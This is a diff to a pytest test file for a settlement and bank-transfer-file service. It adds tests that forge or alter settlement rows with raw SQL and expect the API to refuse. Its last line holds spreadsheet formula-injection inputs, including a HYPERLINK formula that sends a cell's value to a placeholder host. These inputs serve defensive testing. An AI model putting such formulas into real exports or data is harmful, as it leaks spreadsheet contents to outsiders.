@@ -11,6 +11,7 @@ import pytest
 import pytest_asyncio
 from pypdf import PdfReader
 from python_calamine import CalamineWorkbook
+from sqlalchemy import text
 
 from chassis.db import Database
 from chassis.testing import Tokens, once
@@ -101,6 +102,32 @@ async def test_the_last_line_of_a_file_has_its_totals(settlement: dict[str, Any]
     *lines, last = plain.decode().splitlines(keepends=True)
     assert next(csv.reader([last])) == ["合计", "1", "36.40", hashlib.sha256("".join(lines).encode()).hexdigest()]
     assert next(csv.reader([lines[2]]))[1:3] == [UUID(settlement["settlement_id"]).hex, DAY.isoformat()]
+
+
+async def test_a_settlement_row_inserted_by_sql_is_not_paid(
+    owner: Database, settlement: dict[str, Any], one: Staff
+) -> None:
+    forged = text(
+        "INSERT INTO settlements (id, provider_id, day, status, bookings, booked_fen, returned_fen, fee_fen, "
+        "payable_fen, held_bookings, held_fen) VALUES (uuidv7(), :provider_id, CURRENT_DATE, 'closed', 1, 900000, 0, "
+        "0, 900000, 0, 0) RETURNING id"
+    )
+    async with owner.transaction() as tx:
+        forged_id = (await tx.scalars(forged, {"provider_id": settlement["provider_id"]})).one()
+    answer = await one.post("/transfer-files")
+    assert (answer.status_code, answer.json()["code"]) == (409, "settlement_unproven")
+    assert str(forged_id) in answer.json()["detail"]
+    assert (await one.get("/transfer-files")).json()["items"] == []
+
+
+async def test_figures_changed_by_sql_after_the_file_was_made_are_not_sent(
+    owner: Database, settlement: dict[str, Any], one: Staff, other: Staff
+) -> None:
+    file = (await one.post("/transfer-files")).json()
+    async with owner.transaction() as tx:
+        await tx.execute(text("UPDATE settlements SET booked_fen = booked_fen + 1, payable_fen = payable_fen + 1"))
+    answer = await other.post(f"/transfer-files/{file['transfer_file_id']}/sent")
+    assert (answer.status_code, answer.json()["code"]) == (409, "settlement_unproven")
 
 
 @pytest.mark.parametrize("name", ['=HYPERLINK("https://x.example/?"&F3,"伊犁水务")', "＝1+1", "\t=1", " +1"])
